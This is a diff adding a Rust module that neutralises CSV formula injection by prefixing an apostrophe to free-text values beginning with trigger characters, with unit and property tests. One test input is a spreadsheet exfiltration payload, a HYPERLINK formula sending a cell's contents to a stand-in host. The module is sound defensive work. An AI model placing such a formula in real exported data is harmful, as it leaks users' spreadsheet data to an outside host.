@@ -1,0 +1,151 @@
+//! The formula guard: free text written into a CSV cell must not run as a formula when the
+//! file is opened in a spreadsheet.
+//!
+//! Pure: a cell in, a cell out; it knows nothing of columns (the catalogue marks which
+//! columns are free text and the rows apply the guard from that mark alone). As OWASP's CSV
+//! injection advice says, a value that begins with `=`, `+`, `-`, `@`, a tab or a carriage
+//! return gets a leading apostrophe, which spreadsheets read as "this is text" and hide. A
+//! multi-valued cell joins its values with `;`, which is also the field separator
+//! spreadsheets use in many locales, so the start of every value counts: a trigger right after
+//! a `;` gets its apostrophe too. Ids, times, numbers and phone numbers never come here.
+
+use std::borrow::Cow;
+
+/// The characters that make a spreadsheet read a cell as a formula when they come first.
+pub const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// What neutralises a formula: the apostrophe spreadsheets take as a text prefix.
+pub const PREFIX: char = '\'';
+
+/// Whether free-text cells are guarded (the default) or written as they are
+/// (`--no-formula-guard`, for loaders that read the file as data).
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Formulas {
+    Guarded,
+    Raw,
+}
+
+impl Formulas {
+    /// A free-text cell as this setting writes it.
+    pub fn apply(self, mut cell: String) -> String {
+        self.apply_in_place(&mut cell);
+        cell
+    }
+
+    /// Rewrites a free-text cell in its buffer as this setting writes it (for writers that
+    /// compute cells into reused strings); allocates only when the cell changes.
+    pub fn apply_in_place(self, cell: &mut String) {
+        if self == Formulas::Raw {
+            return;
+        }
+        if let Cow::Owned(guarded) = guard(cell) {
+            *cell = guarded;
+        }
+    }
+}
+
+/// The cell with an apostrophe before every trigger that begins it or follows a `;`;
+/// borrowed, unchanged, when there is none.
+pub fn guard(cell: &str) -> Cow<'_, str> {
+    if !needs_guard(cell) {
+        return Cow::Borrowed(cell);
+    }
+    let mut out = String::with_capacity(cell.len() + 2);
+    let mut value_start = true;
+    for c in cell.chars() {
+        if value_start && TRIGGERS.contains(&c) {
+            out.push(PREFIX);
+        }
+        out.push(c);
+        value_start = c == ';';
+    }
+    Cow::Owned(out)
+}
+
+/// Whether any value of the cell begins with a trigger.
+fn needs_guard(cell: &str) -> bool {
+    cell.split(';')
+        .any(|value| value.starts_with(|c| TRIGGERS.contains(&c)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_value_that_begins_with_a_trigger_gets_an_apostrophe() {
+        for (cell, want) in [
+            (
+                r#"=HYPERLINK("http://x/?leak="&A2,"x")"#,
+                r#"'=HYPERLINK("http://x/?leak="&A2,"x")"#,
+            ),
+            ("+33 1 23", "'+33 1 23"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tcmd", "'\tcmd"),
+            ("\rcmd", "'\rcmd"),
+            ("Support;=1+1", "Support;'=1+1"),
+            ("=a;;-b;c", "'=a;;'-b;c"),
+            (";@x", ";'@x"),
+        ] {
+            assert_eq!(guard(cell), want, "{cell:?}");
+        }
+    }
+
+    #[test]
+    fn other_cells_are_left_alone_and_borrowed() {
+        for cell in [
+            "",
+            "Support, \"Tier 2\"",
+            "a=b",
+            "x-y;z+w",
+            " =not first",
+            "'=already",
+            "Zoë;Groß",
+            "Escalated; tier 2",
+            "\n=after a newline",
+        ] {
+            assert!(
+                matches!(guard(cell), Cow::Borrowed(c) if c == cell),
+                "{cell:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn raw_writes_every_cell_as_it_is() {
+        let cell = "=1+1;-2".to_string();
+        assert_eq!(Formulas::Raw.apply(cell.clone()), cell);
+        assert_eq!(Formulas::Guarded.apply(cell), "'=1+1;'-2");
+        assert_eq!(Formulas::Guarded.apply("plain".into()), "plain");
+        let mut reused = String::from("@x");
+        Formulas::Guarded.apply_in_place(&mut reused);
+        assert_eq!(reused, "'@x");
+        Formulas::Raw.apply_in_place(&mut reused);
+        assert_eq!(reused, "'@x");
+    }
+
+    #[test]
+    fn prop_a_guarded_cell_never_starts_a_value_with_a_trigger() {
+        crate::prop::run(|rng| {
+            let alphabet = ['=', '+', '-', '@', '\t', '\r', ';', 'a', ' ', '\'', 'é'];
+            let cell: String = (0..rng.below(12))
+                .map(|_| alphabet[rng.below(alphabet.len() as u64) as usize])
+                .collect();
+            let guarded = guard(&cell);
+            assert!(!needs_guard(&guarded), "{cell:?} -> {guarded:?}");
+            // Only apostrophes are added: removing those before triggers gives the cell back.
+            let restored = guarded
+                .replace("'=", "=")
+                .replace("'+", "+")
+                .replace("'-", "-");
+            let restored = restored
+                .replace("'@", "@")
+                .replace("'\t", "\t")
+                .replace("'\r", "\r");
+            if !cell.contains('\'') {
+                assert_eq!(restored, cell);
+            }
+        });
+    }
+}
